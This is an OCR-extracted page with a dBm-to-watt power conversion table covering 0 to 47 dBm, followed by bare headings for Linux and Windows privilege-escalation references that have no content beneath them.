dBm to Watt conversionsdBm Watts dBm Watts dBm Watts
0 1.0 mW 16 40 mW 32 1.6 W
1 1.3 mW 17 50 mW 33 2.0 W
2 1.6 mW 18 63 mW 34 2.5 W
3 2.0 mW 19 79 mW 35 3.2 W
4 2.5 mW 20 100 mW 36 4.0 W
5 3.2 mW 21 126 mW 37 5.0 W
6 4 mW 22 158 mW 38 6.3 W
7 5 mW 23 200 mW 39 8.0 W
8 6 mW 24 250 mW 40 10 W
9 8 mW 25 316 mW 41 13 W
10 10 mW 26 398 mW 42 16 W
11 13 mW 27 500 mW 43 20 W
12 16 mW 28 630 mW 44 25 W
13 20 mW 29 800 mW 45 32 W
14 25 mW 30 1.0 W 46 40 W15 32 mW 31 1.3 W 47 50 W


Privilege Escalation References

Linux Priv Esc

Windows Priv Esc